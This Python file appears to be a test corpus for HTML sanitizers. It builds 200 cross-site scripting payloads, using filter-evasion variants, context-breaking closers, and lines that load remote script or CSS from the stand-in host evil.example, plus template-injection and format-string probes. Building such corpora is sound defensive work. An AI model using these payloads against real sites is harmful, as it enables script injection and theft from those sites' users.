"""Two hundred things that hostile pages say, each of which would open a dialog if any page let it run."""

RUN = "alert(1)"
BARE = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<img src=//evil.example/p.png onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>go</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><img src=x onerror={RUN}></noscript>",
    f"<textarea><script>{RUN}</script></textarea>",
    f"<title><script>{RUN}</script></title>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "{{ 7 * 7 }}{% raw %}",
    "{{ config.__class__.__mro__ }}",
    "${7*7}#{7*7}",
    "%s%n%x {0.__class__} %(secret)s",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\u2028{RUN}\u2029",
    f"＜script＞{RUN}＜/script＞",
    f"<x style=background:url(javascript:{RUN})>",
)
"""Forty payloads as they stand."""

CLOSERS = ("", '">', "'>", "--></textarea></title></style></script>", '" autofocus onfocus=alert(1) x="')
"""Ways out of wherever the words may stand."""

PAYLOADS = tuple(closer + bare for bare in BARE for closer in CLOSERS)
assert len(PAYLOADS) == 200
